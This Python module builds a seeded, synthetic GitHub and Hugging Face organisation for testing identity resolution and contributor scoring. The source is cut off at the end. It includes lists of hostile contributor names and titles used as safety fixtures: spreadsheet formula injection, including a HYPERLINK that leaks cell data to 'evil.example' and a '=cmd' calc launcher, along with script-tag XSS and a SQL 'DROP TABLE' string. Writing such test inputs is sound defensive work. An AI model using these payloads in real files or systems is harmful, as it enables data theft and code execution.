"""The demo world: a seeded, deterministic company org, "acme-ai".

It is what a new user sees on a fresh machine, and a world whose true answers are
known (which identities are one person, who is a bot, who works for the company), so
identity resolution and scoring can be measured against it.

The world is built from people with archetypes (core employees, community
maintainers, reviewers who rarely commit, drive-by contributors, rising newcomers,
issue reporters, former employees, bots) and a heavy-tailed activity rate each. It
produces the same records a real source does (:mod:`talent.model`), and
:class:`DemoSource` hands them to :mod:`talent.sync` as one batch
(:func:`talent.mining.save_demo` is the one-call form).
"""

from __future__ import annotations

import hashlib
import math
import random
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from talent.model import (
    Activity,
    ActivityKind,
    CommitFile,
    Identity,
    IdentitySource,
    Origin,
    Repo,
)
from talent.sources.base import Batch, SourceState
from talent.sources.hf import RELATIONS, hub_repo_name

ORG = "acme-ai"
COMPANY_DOMAIN = "acme-ai.com"
# A fixed end date keeps the world identical whenever it is generated.
END = datetime(2026, 10, 31, 18, 0, tzinfo=UTC)
START = END - timedelta(days=3 * 365)

SIZES = {"small": 150, "medium": 600, "large": 1500}

# (name, description, {area: file extension})
REPOS: list[tuple[str, str, dict[str, str]]] = [
    (
        "vision-foundation",
        "Acme's open vision foundation model: weights, training and eval",
        {
            "models": ".py",
            "training": ".py",
            "data": ".py",
            "eval": ".py",
            "docs": ".md",
            "tests": ".py",
        },
    ),
    (
        "med-llm",
        "A medical-domain LLM fine-tuned from open weights, with RLHF recipes",
        {
            "modeling": ".py",
            "rlhf": ".py",
            "data": ".py",
            "eval": ".py",
            "docs": ".md",
            "tests": ".py",
        },
    ),
    (
        "speech-asr",
        "Streaming speech recognition model and recipes",
        {
            "models": ".py",
            "recipes": ".sh",
            "data": ".py",
            "decoding": ".py",
            "docs": ".md",
            "tests": ".py",
        },
    ),
    (
        "acme-train",
        "Distributed training library used by every Acme model",
        {
            "distributed": ".py",
            "optim": ".py",
            "checkpoint": ".py",
            "data": ".py",
            "docs": ".md",
            "tests": ".py",
            ".github/workflows": ".yml",
        },
    ),
    (
        "acme-serve",
        "Inference server: batching, quantisation and CUDA kernels",
        {
            "server": ".py",
            "kernels/cuda": ".cu",
            "quantization": ".py",
            "scheduler": ".py",
            "docs": ".md",
            "tests": ".py",
        },
    ),
    (
        "acme-eval",
        "Evaluation harness and benchmarks for Acme models",
        {"benchmarks": ".py", "metrics": ".py", "harness": ".py", "docs": ".md", "tests": ".py"},
    ),
    (
        "tokenizers",
        "Fast tokenizers (Rust core, Python bindings)",
        {"src": ".rs", "bindings/python": ".py", "docs": ".md", "tests": ".rs"},
    ),
    (
        "acme-kernels",
        "Fused attention and GEMM kernels for training and inference",
        {
            "csrc/attention": ".cu",
            "csrc/gemm": ".cu",
            "python": ".py",
            "benchmarks": ".py",
            "tests": ".py",
        },
    ),
]

FIRST = [
    "Ada",
    "Alan",
    "Grace",
    "Linus",
    "Margaret",
    "Dennis",
    "Barbara",
    "Ken",
    "Frances",
    "Edsger",
    "Radia",
    "Guido",
    "Anita",
    "Yukihiro",
    "Hedy",
    "Donald",
    "Karen",
    "Tim",
    "Sophie",
    "Omar",
    "Priya",
    "Wei",
    "Fatima",
    "Carlos",
    "Ingrid",
    "Kwame",
    "Mei",
    "Noah",
    "Aisha",
    "Mateo",
    "Elena",
    "Ravi",
    "Chloé",
    "José",
    "Zoë",
    "Łukasz",
    "Søren",
    "Ngozi",
    "Björn",
    "Anaïs",
    "Dmitri",
    "Yuki",
    "Ayşe",
    "Jürgen",
    "Renée",
    "Thanh",
    "Olusegun",
    "Ines",
    "Hamid",
    "Lucía",
]
LAST = [
    "Lovelace",
    "Turing",
    "Hopper",
    "Torvalds",
    "Hamilton",
    "Ritchie",
    "Liskov",
    "Thompson",
    "Allen",
    "Dijkstra",
    "Perlman",
    "van Rossum",
    "Borg",
    "Matsumoto",
    "Lamarr",
    "Knuth",
    "Spärck Jones",
    "Berners-Lee",
    "Wilson",
    "Haddad",
    "Sharma",
    "Zhang",
    "Khan",
    "García",
    "Larsen",
    "Mensah",
    "Chen",
    "Fischer",
    "Okafor",
    "Rossi",
    "Petrova",
    "Iyer",
    "Dubois",
    "Álvarez",
    "Müller",
    "Wróbel",
    "Kierkegaard",
    "Eze",
    "Nguyễn",
    "Søndergaard",
    "Ivanov",
    "Tanaka",
    "Yılmaz",
    "Schäfer",
    "Côté",
    "Adeyemi",
    "Moreau",
    "Farahani",
    "Fernández",
    "Kowalski",
]
CJK_NAMES = ["李伟", "王芳", "张敏", "刘洋", "陈静", "佐藤健", "김민준"]

# Strings a hostile contributor could choose, to prove every output stays safe.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1 Intern",
    "-Dash Contributor",
    "@SUM(A1:A9)",
    "<script>alert('x')</script>",
    "\tTabby Tabs",
    'Robert"); DROP TABLE people;--',
]
HOSTILE_TITLES = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2) fix",
    "-2+3 off-by-one",
    "@lookup broken",
    "<img src=x onerror=alert(1)> render fix",
    '=HYPERLINK("http://evil.example","docs")',
]

PR_VERBS = [
    "Fix",
    "Add",
    "Speed up",
    "Refactor",
    "Support",
    "Document",
    "Test",
    "Remove",
    "Improve",
    "Handle",
]
PR_TOPICS = [
    "flash attention on sm90",
    "fp8 quantization",
    "LoRA adapters",
    "tokenizer byte fallback",
    "distributed checkpoint resume",
    "RLHF reward model loss",
    "data loader prefetch",
    "KV cache eviction",
    "beam search decoding",
    "mixed precision overflow",
    "eval harness for MMLU",
    "CUDA graph capture",
    "FSDP wrapping policy",
    "streaming ASR latency",
    "int4 GEMM kernel",
    "continuous batching",
    "vision transformer patch embed",
    "gradient accumulation",
    "docs for fine-tuning",
    "CI cache for wheels",
    "ONNX export",
    "Triton kernel autotune",
    "speculative decoding",
    "dataset dedup",
    "benchmark regression",
]
ISSUE_TOPICS = [
    "OOM when",
    "NaN loss with",
    "Wrong output for",
    "Crash in",
    "Slow",
    "Feature request:",
    "Docs unclear about",
    "Install fails for",
]


@dataclass(frozen=True)
class Archetype:
    name: str
    share: float  # of the human population
    prs: float  # mean pull requests over the person's active span
    issues: float
    comments: float
    review_weight: float  # chance to be picked as a reviewer, relative
    merge_rights: bool
    merge_quality: float  # chance a pull request is merged
    employee: bool
    span: tuple[float, float]  # active span as fractions of the world's 3 years
    emails: tuple[int, int]  # how many git emails


ARCHETYPES = [
    Archetype("employee_core", 0.04, 60, 6, 40, 8.0, True, 0.95, True, (0.0, 1.0), (2, 3)),
    Archetype("employee", 0.08, 18, 3, 10, 2.0, True, 0.9, True, (0.1, 1.0), (1, 2)),
    Archetype("former_employee", 0.02, 25, 3, 10, 3.0, True, 0.9, True, (0.0, 1.0), (2, 2)),
    Archetype("community_core", 0.03, 45, 8, 45, 6.0, True, 0.9, False, (0.05, 1.0), (2, 3)),
    Archetype("community", 0.15, 8, 3, 6, 0.8, False, 0.75, False, (0.2, 0.9), (1, 2)),
    Archetype("reviewer", 0.02, 1.5, 2, 50, 7.0, False, 0.8, False, (0.1, 1.0), (1, 1)),
    Archetype("rising", 0.04, 14, 3, 10, 1.0, False, 0.85, False, (0.83, 1.0), (1, 1)),
    Archetype("issue_reporter", 0.20, 0.2, 3, 4, 0.0, False, 0.5, False, (0.0, 1.0), (0, 1)),
    Archetype("drive_by", 0.42, 1.2, 0.6, 0.8, 0.0, False, 0.55, False, (0.0, 1.0), (1, 1)),
]

BOTS = [
    # login, github id, git name, kind of work
    ("dependabot[bot]", 49699333, "dependabot[bot]", "deps"),
    ("github-actions[bot]", 41898282, "github-actions[bot]", "commits"),
    ("pre-commit-ci[bot]", 66853113, "pre-commit-ci[bot]", "precommit"),
    ("codecov-commenter", 65553080, "Codecov", "comments"),
    ("acme-release-bot", 90000001, "Acme Release Bot", "release"),
    # Machine users: plain "User" accounts on no list; only their messages give them away.
    ("acme-ci", 90000002, "Acme CI", "ci_comments"),
    ("docs-sync", 90000003, "docs-sync", "docs"),
    ("triage-helper", 90000004, "Triage Helper", "triage"),
]
# Bots that only their behaviour (near-identical messages) can reveal.
TEMPLATE_BOTS = frozenset({"acme-release-bot", "acme-ci", "docs-sync", "triage-helper"})
OTHER_COMPANIES = [
    "Hugging Face",
    "@meta",
    "Google DeepMind",
    "Independent",
    "ETH Zürich",
    "NVIDIA",
    "Freelance",
    '=HYPERLINK("http://x","corp")',
]


@dataclass
class DemoPerson:
    index: int
    name: str
    login: str
    github_id: int
    archetype: str
    employee: bool
    is_bot: bool
    start: datetime
    end: datetime
    git_identities: list[Identity] = field(default_factory=list)
    # Every person has a GitHub account, made with their identities right after them.
    account: Identity = field(init=False)
    repos: list[str] = field(default_factory=list)
    left_at: datetime | None = None  # a former employee's last day at the company
    template_bot: bool = False
    company: str = ""  # what the GitHub profile says


@dataclass
class DemoWorld:
    """Everything the generator made, and the truth behind it."""

    repos: list[Repo]
    identities: list[Identity]
    activities: list[Activity]
    commit_files: list[CommitFile]
    people: list[DemoPerson]
    truth: dict[str, int]  # identity key -> index of the true person
    profiles: list[dict] = field(default_factory=list)
    # What each repository's CODEOWNERS named over time (rows of the store's named
    # owners) and the files at its head.
    named_owners: dict[str, list[dict]] = field(default_factory=dict)
    head_files: dict[str, list[str]] = field(default_factory=dict)
    hub: DemoHub | None = None


@dataclass
class DemoHub:
    """The company's Hugging Face Hub organisation: its models, a dataset and a Space,
    their commits, discussions and pull requests, the community's derivative models,
    and the organisation's members. Records as :class:`talent.sources.hf.HubSource`
    makes them. Hub accounts are identities of their own: the staff's use their GitHub
    login (resolution suggests the pair, never merges it on a login alone), a few
    community members use another name, and the builders are known only on the Hub.
    ``people`` maps each account's key to the index of its person in
    :attr:`DemoWorld.people`, or, for someone only on the Hub, to an index past them."""

    repos: list[Repo]
    identities: list[Identity]
    activities: list[Activity]
    members: list[str]  # the organisation's members, as identity keys
    people: dict[str, int]


def generate_demo(seed: int = 7, size: str = "medium") -> DemoWorld:
    """Build the demo world; the same ``seed`` and ``size`` give the same world."""
    if size not in SIZES:
        raise ValueError(f"unknown size {size!r}; choose one of {', '.join(SIZES)}")
    return _Generator(random.Random(seed), SIZES[size]).build()


class DemoSource:
    """A demo world as a source: one batch of everything it holds, and the settings that
    say whose world it is (``demo_org``, the company's domain and organisation)."""

    name = "demo"

    def __init__(self, world: DemoWorld):
        self.world = world

    def read(self, state: SourceState) -> Iterator[Batch]:
        world = self.world
        yield Batch(
            scope=ORG,
            repos=list(world.repos),
            identities={i.key: i for i in world.identities},
            activities=list(world.activities),
            commit_files=list(world.commit_files),
            named_owners=dict(world.named_owners),
            head_files=dict(world.head_files),
            profiles=list(world.profiles),
            meta={"demo_org": ORG, "company_domains": COMPANY_DOMAIN, "company_orgs": ORG},
        )
        if world.hub is not None:
            hub = world.hub
            yield Batch(
                scope=f"hf:{ORG}",
                repos=list(hub.repos),
                identities={i.key: i for i in hub.identities},
                activities=list(hub.activities),
                account_members={f"hf:{ORG}": list(hub.members)},
            )


def _owner_row(owner: str, pattern: str, line: int, since: datetime) -> dict:
    """One CODEOWNERS naming, as the store keeps it."""
    return {
        "source": ".github/CODEOWNERS",
        "owner": owner,
        "pattern": pattern,
        "role": "codeowner",
        "since": since,
        "kind": "team" if "/" in owner else "user",
        "until": None,
        "line": line,
    }


def _slug(text: str) -> str:
    folded = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    out = "".join(ch.lower() if ch.isalnum() else "-" for ch in folded).strip("-")
    while "--" in out:
        out = out.replace("--", "-")
    return out


class _Generator:
    def __init__(self, rng: random.Random, n_people: int):
        self.rng = rng
        self.n_people = n_people
        self.span = (END - START).total_seconds()
        self.repos = [
            Repo(f"{ORG}/{name}", Origin.DEMO, desc, f"https://github.com/{ORG}/{name}", "main")
            for name, desc, _ in REPOS
        ]
        self.areas = {f"{ORG}/{name}": areas for name, _, areas in REPOS}
        self.files = {repo: self._files_of(repo) for repo in self.areas}
        self.people: list[DemoPerson] = []
        self.activities: list[Activity] = []
        self.commit_files: list[CommitFile] = []
        self.next_number = {r.full_name: 1 for r in self.repos}
        self.next_id = 10_000_000
        self.maintainers: dict[str, list[DemoPerson]] = {r.full_name: [] for r in self.repos}
        self.reviewers: dict[str, list[tuple[DemoPerson, float]]] = {
            r.full_name: [] for r in self.repos
        }

    # --- people --------------------------------------------------------------------

    def _files_of(self, repo: str) -> list[str]:
        files = []
        for area, ext in self.areas[repo].items():
            for i in range(self.rng.randint(6, 14)):
                stem = self.rng.choice(
                    [
                        "core",
                        "utils",
                        "layers",
                        "api",
                        "config",
                        "io",
                        "ops",
                        "runner",
                        "model",
                        "loader",
                    ]
                )
                files.append(f"{area}/{stem}_{i}{ext}")
        return files

    def _name(self, index: int) -> str:
        roll = self.rng.random()
        if index % 97 == 13:
            return HOSTILE_NAMES[(index // 97) % len(HOSTILE_NAMES)]
        if roll < 0.05:
            return self.rng.choice(CJK_NAMES)
        return f"{self.rng.choice(FIRST)} {self.rng.choice(LAST)}"

    def _time(self, lo: float, hi: float) -> datetime:
        return START + timedelta(seconds=self.span * self.rng.uniform(lo, hi))

    def _make_people(self) -> None:
        taken: set[str] = set()
        index = 0
        for arche in ARCHETYPES:
            count = max(2, round(arche.share * self.n_people))
            for _ in range(count):
                name = self._name(index)
                base = _slug(name) or f"user{index}"
                login = base if base not in taken else f"{base}{index}"
                # Some logins are nothing like the name, as on GitHub.
                if self.rng.random() < 0.3:
                    login = f"{base.split('-')[0]}{self.rng.randint(1, 999)}"
                while login in taken:
                    login += "x"
                taken.add(login)
                lo, hi = arche.span
                start = self._time(lo, lo + (hi - lo) * 0.35)
                end = self._time(
                    max(lo + (hi - lo) * 0.6, (start - START).total_seconds() / self.span + 0.02),
                    hi,
                )
                person = DemoPerson(
                    index,
                    name,
                    login,
                    1_000_000 + index * 7,
                    arche.name,
                    arche.employee,
                    False,
                    start,
                    end,
                )
                self._identities_of(person, arche)
                self._affinities(person)
                if arche.name == "former_employee":
                    # Left the company, kept contributing from a personal address.
                    person.left_at = self._time(0.3, 0.5)
                person.company = self._company(arche.name)
                self.people.append(person)
                index += 1
        for login, gid, git_name, _work in BOTS:
            person = DemoPerson(index, git_name, login, gid, "bot", False, True, START, END)
            person.account = Identity(
                IdentitySource.GITHUB,
                name="",
                login=login,
                github_id=gid,
                type="Bot" if login.endswith("]") else "User",
            )
            email = f"{gid}+{login}@users.noreply.github.com"
            person.git_identities = [
                Identity(IdentitySource.GIT, name=git_name, email=email, login=login)
            ]
            person.repos = [r.full_name for r in self.repos]
            person.template_bot = login in TEMPLATE_BOTS
            self.people.append(person)
            index += 1

    def _company(self, archetype: str) -> str:
        """What a person's GitHub profile says about their employer (often nothing)."""
        roll = self.rng.random()
        if archetype in ("employee_core", "employee"):
            return (
                self.rng.choice(["@acme-ai", "Acme AI Inc.", "Acme AI", ""]) if roll < 0.6 else ""
            )
        if roll < 0.3:
            return self.rng.choice(OTHER_COMPANIES)
        return ""

    def _identities_of(self, person: DemoPerson, arche: Archetype) -> None:
        # A profile name is shown on GitHub; about a fifth of accounts have none.
        profile_name = person.name if self.rng.random() < 0.8 else ""
        person.account = Identity(
            IdentitySource.GITHUB,
            name=profile_name,
            login=person.login,
            github_id=person.github_id,
            type="User",
        )
        slug = _slug(person.name) or person.login
        first, _, last = slug.partition("-")
        emails = []
        if arche.employee:
            emails.append(f"{first}.{last or 'x'}@{COMPANY_DOMAIN}")
        personal = self.rng.choice(
            [
                "gmail.com",
                "outlook.com",
                "proton.me",
                "fastmail.com",
                "posteo.de",
                "163.com",
                "uni-heidelberg.de",
            ]
        )
        emails.append(f"{slug.replace('-', '.')}@{personal}")
        emails.append(f"{person.github_id}+{person.login}@users.noreply.github.com")
        lo, hi = arche.emails
        count = self.rng.randint(lo, hi)
        chosen = emails[:count] if arche.employee else emails[-count:] if count else []
        for i, email in enumerate(chosen):
            # The same person writes their name differently on different machines.
            name = person.name
            if i == 1 and self.rng.random() < 0.3:
                name = person.name.lower()
            # The commit API links most addresses to the account, not all of them.
            linked = "noreply" in email or self.rng.random() < 0.85
            person.git_identities.append(
                Identity(
                    IdentitySource.GIT,
                    name=name,
                    email=email,
                    login=person.login if linked else None,
                )
            )

    def _affinities(self, person: DemoPerson) -> None:
        names = [r.full_name for r in self.repos]
        count = 1 + int(self.rng.random() < 0.35) + int(self.rng.random() < 0.15)
        if person.archetype in ("employee_core", "community_core"):
            count += 1
        weights = [1.0 / (i + 1) for i in range(len(names))]
        chosen: list[str] = []
        while len(chosen) < count:
            pick = self.rng.choices(names, weights)[0]
            if pick not in chosen:
                chosen.append(pick)
        person.repos = chosen

    def _index_roles(self) -> None:
        arche = {a.name: a for a in ARCHETYPES}
        for person in self.people:
            if person.is_bot:
                continue
            a = arche[person.archetype]
            for repo in person.repos:
                if a.merge_rights:
                    self.maintainers[repo].append(person)
                if a.review_weight > 0:
                    self.reviewers[repo].append((person, a.review_weight))
        for repo, people in self.maintainers.items():
            if not people:  # every repository has someone holding the merge button
                core = [p for p in self.people if p.archetype == "employee_core"]
                position = sorted(self.maintainers).index(repo)
                self.maintainers[repo].append(core[position % len(core)])

    # --- activity ------------------------------------------------------------------

    def _rate(self, mean: float) -> int:
        if mean <= 0:
            return 0
        # Lognormal with sigma 1: the heavy tail of open-source activity.
        value = mean * math.exp(self.rng.gauss(0, 1.0) - 0.5)
        return int(value) + int(self.rng.random() < value - int(value))

    def _new_id(self) -> int:
        self.next_id += self.rng.randint(1, 50)
        return self.next_id

    def _add(
        self, kind: ActivityKind, repo: str, actor: Identity, when: datetime, ref: str, **extra
    ) -> None:
        key = f"{kind}:{repo}:{ref}"
        self.activities.append(
            Activity(key=key, repo=repo, kind=kind, actor=actor.key, occurred_at=when, **extra)
        )

    def _active_in(self, person: DemoPerson, when: datetime) -> bool:
        return person.start <= when <= person.end + timedelta(days=30)

    def _pick_other(
        self, pool: Sequence[tuple[DemoPerson, float]], exclude: DemoPerson, when: datetime
    ) -> DemoPerson | None:
        options = [(p, w) for p, w in pool if p is not exclude and self._active_in(p, when)]
        if not options:
            return None
        return self.rng.choices([p for p, _ in options], [w for _, w in options])[0]

    def _title(self) -> str:
        if self.rng.random() < 0.01:
            return self.rng.choice(HOSTILE_TITLES)
        return f"{self.rng.choice(PR_VERBS)} {self.rng.choice(PR_TOPICS)}"

    def _identities_at(self, person: DemoPerson, when: datetime) -> list[Identity]:
        """The git identities a person could commit with at a time: after leaving the
        company, not the company address."""
        if person.left_at is None or when <= person.left_at:
            return person.git_identities
        personal = [i for i in person.git_identities if not i.email.endswith(COMPANY_DOMAIN)]
        return personal or person.git_identities

    def _commit(
        self,
        person: DemoPerson,
        repo: str,
        when: datetime,
        title: str,
        pr_number: int | None = None,
        co_author: DemoPerson | None = None,
    ) -> None:
        ident = self.rng.choice(self._identities_at(person, when))
        sha = hashlib.sha1(f"{repo}:{len(self.activities)}:{title}".encode()).hexdigest()
        touched = self.rng.sample(self.files[repo], k=min(len(self.files[repo]), 1 + self._rate(2)))
        total = 0
        for path in touched:
            binary = path.endswith(".png")
            adds: int | None = None
            dels: int | None = None
            if not binary:
                adds = int(math.exp(self.rng.gauss(2.5, 1.3)))
                dels = int(adds * self.rng.random() * 0.6)
            total += (adds or 0) + (dels or 0)
            self.commit_files.append(CommitFile(repo, sha, path, adds, dels))
        subject = f"{title} (#{pr_number})" if pr_number else title
        self._add(
            ActivityKind.COMMIT,
            repo,
            ident,
            when,
            sha,
            item=sha,
            size=total,
            title=subject,
            url=f"https://github.com/{repo}/commit/{sha}",
        )
        if co_author is not None and co_author.git_identities:
            co = self._identities_at(co_author, when)[0]
            self._add(
                ActivityKind.CO_AUTHORED,
                repo,
                co,
                when,
                f"{sha}:{co.key}",
                item=sha,
                counterpart=ident.key,
                title=subject,
                url=f"https://github.com/{repo}/commit/{sha}",
            )

    def _pull_request(
        self, person: DemoPerson, repo: str, when: datetime, title: str, quality: float
    ) -> None:
        number = self.next_number[repo]
        self.next_number[repo] += 1
        author = person.account
        ref = f"{repo}#{number}"
        url = f"https://github.com/{repo}/pull/{number}"
        self._add(
            ActivityKind.PR_OPENED, repo, author, when, str(number), item=ref, title=title, url=url
        )
        t = when
        # Reviews: mostly by the repository's maintainers and dedicated reviewers.
        pool = self.reviewers[repo]
        for _ in range(self._rate(1.6) if not person.is_bot else int(self.rng.random() < 0.5)):
            reviewer = self._pick_other(pool, person, t)
            if reviewer is None:
                break
            t = t + timedelta(hours=self.rng.expovariate(1 / 20))
            state = self.rng.choices(["APPROVED", "CHANGES_REQUESTED", "COMMENTED"], [5, 2, 3])[0]
            rid = self._new_id()
            self._add(
                ActivityKind.REVIEW,
                repo,
                reviewer.account,
                t,
                f"{number}:{rid}",
                item=ref,
                counterpart=author.key,
                title=title,
                url=f"{url}#pullrequestreview-{rid}",
                state=state,
            )
            for _ in range(self._rate(1.5)):
                cid = self._new_id()
                self._add(
                    ActivityKind.REVIEW_COMMENT,
                    repo,
                    reviewer.account,
                    t + timedelta(minutes=self.rng.randint(0, 30)),
                    f"{number}:{cid}",
                    item=ref,
                    counterpart=author.key,
                    title=title,
                    url=f"{url}#discussion_r{cid}",
                )
        # Conversation comments by anyone around.
        for _ in range(self._rate(0.8)):
            other = self._pick_other(pool, person, t) if pool else None
            if other is not None:
                cid = self._new_id()
                self._add(
                    ActivityKind.ISSUE_COMMENT,
                    repo,
                    other.account,
                    t + timedelta(hours=self.rng.randint(1, 48)),
                    f"{number}:{cid}",
                    item=ref,
                    counterpart=author.key,
                    title=title,
                    url=f"{url}#issuecomment-{cid}",
                )
        if self.rng.random() < quality:
            merger = self._pick_other([(m, 1.0) for m in self.maintainers[repo]], person, t)
            if merger is None:
                return
            merged_at = t + timedelta(hours=self.rng.expovariate(1 / 30))
            if merged_at > END:
                return
            self._add(
                ActivityKind.PR_MERGED,
                repo,
                author,
                merged_at,
                str(number),
                item=ref,
                counterpart=merger.account.key,
                title=title,
                url=url,
            )
            self._add(
                ActivityKind.PR_MERGED_BY,
                repo,
                merger.account,
                merged_at,
                str(number),
                item=ref,
                counterpart=author.key,
                title=title,
                url=url,
            )
            # The squash commit on the default branch is authored by the PR author;
            # a maintainer who pushed fixes to the branch appears as co-author.
            co = merger if self.rng.random() < 0.15 else None
            if person.git_identities:
                self._commit(person, repo, merged_at, title, number, co_author=co)

    def _issue(self, person: DemoPerson, repo: str, when: datetime) -> None:
        number = self.next_number[repo]
        self.next_number[repo] += 1
        ref = f"{repo}#{number}"
        url = f"https://github.com/{repo}/issues/{number}"
        title = f"{self.rng.choice(ISSUE_TOPICS)} {self.rng.choice(PR_TOPICS)}"
        if self.rng.random() < 0.01:
            title = self.rng.choice(HOSTILE_TITLES)
        self._add(
            ActivityKind.ISSUE_OPENED,
            repo,
            person.account,
            when,
            str(number),
            item=ref,
            title=title,
            url=url,
        )
        t = when
        pool = self.reviewers[repo]
        for _ in range(self._rate(1.8)):
            other = self._pick_other(pool, person, t)
            if other is None:
                break
            t = t + timedelta(hours=self.rng.expovariate(1 / 24))
            cid = self._new_id()
            self._add(
                ActivityKind.ISSUE_COMMENT,
                repo,
                other.account,
                t,
                f"{number}:{cid}",
                item=ref,
                counterpart=person.account.key,
                title=title,
                url=f"{url}#issuecomment-{cid}",
            )
        if self.rng.random() < 0.6:
            closer = self._pick_other([(m, 1.0) for m in self.maintainers[repo]], person, t)
            closed_at = t + timedelta(days=self.rng.expovariate(1 / 5))
            if closer is not None and closed_at <= END:
                self._add(
                    ActivityKind.ISSUE_CLOSED_BY,
                    repo,
                    closer.account,
                    closed_at,
                    str(number),
                    item=ref,
                    counterpart=person.account.key,
                    title=title,
                    url=url,
                )

    def _human_activity(self, person: DemoPerson) -> None:
        arche = next(a for a in ARCHETYPES if a.name == person.archetype)
        lo = (person.start - START).total_seconds() / self.span
        hi = (person.end - START).total_seconds() / self.span
        quality = min(0.98, max(0.2, arche.merge_quality + self.rng.gauss(0, 0.08)))
        for _ in range(self._rate(arche.prs)):
            repo = self.rng.choice(person.repos)
            self._pull_request(person, repo, self._time(lo, hi), self._title(), quality)
        for _ in range(self._rate(arche.issues)):
            self._issue(person, self.rng.choice(person.repos), self._time(lo, hi))
        if arche.employee and person.git_identities:
            # Staff push small fixes straight to the default branch.
            for _ in range(self._rate(arche.prs * 0.2)):
                repo = self.rng.choice(person.repos)
                self._commit(
                    person,
                    repo,
                    self._time(lo, hi),
                    f"{self.rng.choice(PR_VERBS)} typo in docs"
                    if self.rng.random() < 0.3
                    else self._title(),
                )

    def _bot_activity(self, person: DemoPerson, work: str) -> None:
        weeks = int(self.span // (7 * 24 * 3600))
        for repo in person.repos:
            if work == "deps":
                for w in range(0, weeks, 2):
                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
                    pkg = self.rng.choice(
                        ["torch", "numpy", "transformers", "pydantic", "actions/checkout", "ruff"]
                    )
                    title = f"Bump {pkg} from 1.{w % 9}.0 to 1.{w % 9 + 1}.0"
                    self._pull_request(person, repo, when, title, 0.7)
            elif work == "commits":
                for w in range(0, weeks, 3):
                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
                    self._commit(person, repo, when, "chore: update changelog [skip ci]")
            elif work == "precommit":
                for w in range(0, weeks, 4):
                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
                    self._pull_request(
                        person, repo, when, "[pre-commit.ci] pre-commit autoupdate", 0.9
                    )
            elif work == "comments":
                opened = [
                    a
                    for a in self.activities
                    if a.kind == ActivityKind.PR_OPENED and a.repo == repo
                ]
                for act in opened[::2]:
                    if act.item is None:  # every opened pull request has one
                        continue
                    cid = self._new_id()
                    number = act.item.rsplit("#", 1)[1]
                    self._add(
                        ActivityKind.ISSUE_COMMENT,
                        repo,
                        person.account,
                        act.occurred_at + timedelta(minutes=5),
                        f"{number}:{cid}",
                        item=act.item,
                        counterpart=act.actor,
                        title="Codecov Report: coverage 87.5% (+0.1%)",
                        url=f"{act.url}#issuecomment-{cid}",
                    )
            elif work in ("ci_comments", "triage"):
                kind = (
                    ActivityKind.PR_OPENED if work == "ci_comments" else ActivityKind.ISSUE_OPENED
                )
                opened = [a for a in self.activities if a.kind == kind and a.repo == repo]
                for act in opened[::3]:
                    if act.item is None:  # every opened pull request and issue has one
                        continue
                    cid = self._new_id()
                    number = act.item.rsplit("#", 1)[1]
                    title = (
                        f"CI passed: {self.rng.randint(8, 40)} checks green on "
                        f"{self.rng.getrandbits(28):07x}"
                        if work == "ci_comments"
                        else "Thanks for the report! Labelled needs-triage; a maintainer will "
                        "take a look soon."
                    )
                    self._add(
                        ActivityKind.ISSUE_COMMENT,
                        repo,
                        person.account,
                        act.occurred_at + timedelta(minutes=2),
                        f"{number}:{cid}",
                        item=act.item,
                        counterpart=act.actor,
                        title=title,
                        url=f"{act.url}#issuecomment-{cid}",
                    )
            elif work == "docs" and repo in (self.repos[3].full_name, self.repos[4].full_name):
                for w in range(0, weeks, 3):
                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 50))
                    self._commit(person, repo, when, f"docs: sync API reference (build {1000 + w})")
            elif work == "release" and repo in (self.repos[0].full_name, self.repos[3].full_name):
                for m in range(0, 36, 2):
                    self._commit(
                        person, repo, START + timedelta(days=30 * m + 3), f"Release v0.{m // 2}.0"
                    )

    def _shared_machine_commits(self) -> None:
        # Some staff committed from a shared build box: one identity, several people.
        ident = Identity(IdentitySource.GIT, name="ubuntu", email="ubuntu@ip-10-0-0-12")
        staff = [p for p in self.people if p.employee][:4]
        for person in staff:
            for _ in range(2):
                repo = self.rng.choice(person.repos)
                when = self._time(0.3, 0.6)
                sha = hashlib.sha1(f"shared:{repo}:{len(self.activities)}".encode()).hexdigest()
                self._add(
                    ActivityKind.COMMIT,
                    repo,
                    ident,
                    when,
                    sha,
                    item=sha,
                    size=4,
                    title="hotfix config",
                    url=f"https://github.com/{repo}/commit/{sha}",
                )
                self.commit_files.append(CommitFile(repo, sha, "deploy/config.yaml", 2, 2))
        self.shared_identity = ident

    def build(self) -> DemoWorld:
        self._make_people()
        self._index_roles()
        for person in self.people:
            if not person.is_bot:
                self._human_activity(person)
        for person, (_login, _gid, _name, work) in zip(
            self.people[-len(BOTS) :], BOTS, strict=True
        ):
            self._bot_activity(person, work)
        self._shared_machine_commits()

        identities: dict[str, Identity] = {}
        truth: dict[str, int] = {}
        for person in self.people:
            for ident in [person.account, *person.git_identities]:
                if ident is not None:
                    identities[ident.key] = ident
                    truth[ident.key] = person.index
        identities[self.shared_identity.key] = self.shared_identity
        truth[self.shared_identity.key] = -1  # shared: nobody in particular
        # Acts that would fall after the world's end (a late review) are not kept.
        activities = sorted(
            (a for a in self.activities if a.occurred_at <= END),
            key=lambda a: (a.occurred_at, a.key),
        )
        named, head = self._owner_files(activities)
        # Its own random stream: the git and GitHub world is the same with or without it.
        hub = _HubGenerator(random.Random(self.rng.random()), self.people).build()
        # The stewardship acts git shows, from a stream of their own drawn after the Hub's.
        steward = self._stewardship(activities, random.Random(self.rng.random()))
        activities = sorted([*activities, *steward], key=lambda a: (a.occurred_at, a.key))
        shas = {a.item for a in activities if a.kind == ActivityKind.COMMIT}
        files = [f for f in self.commit_files if f.sha in shas]
        used = {a.actor for a in activities} | {a.counterpart for a in activities if a.counterpart}
        kept = [identities[k] for k in sorted(identities) if k in used]
        profiles = [
            {
                "github_id": p.github_id,
                "login": p.login,
                "name": p.account.name or None,
                "company": p.company or None,
                "location": None,
                "blog": None,
                "followers": None,
                "fetched_at": END.replace(tzinfo=None),
            }
            for p in self.people
            if not p.is_bot and p.account.key in used
        ]
        return DemoWorld(
            self.repos,
            kept,
            activities,
            files,
            self.people,
            {k: v for k, v in truth.items() if k in used},
            profiles,
